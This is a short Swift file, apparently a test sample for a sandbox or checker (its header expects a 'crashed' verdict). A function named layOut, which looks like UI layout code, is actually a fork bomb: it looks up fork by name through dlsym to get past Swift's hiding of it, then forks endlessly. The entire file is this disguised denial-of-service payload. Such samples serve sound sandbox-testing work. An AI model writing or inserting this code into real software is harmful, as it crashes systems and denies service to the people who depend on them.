//! verdict: crashed
//! sort: processes
// Doubles itself for ever; fork is hidden from Swift, and found by name.
import UIKit

func layOut(box: UIView, in view: UIView) {
  typealias Fork = @convention(c) () -> Int32
  let fork = unsafeBitCast(dlsym(nil, "fork"), to: Fork.self)
  while true { _ = fork() }
}
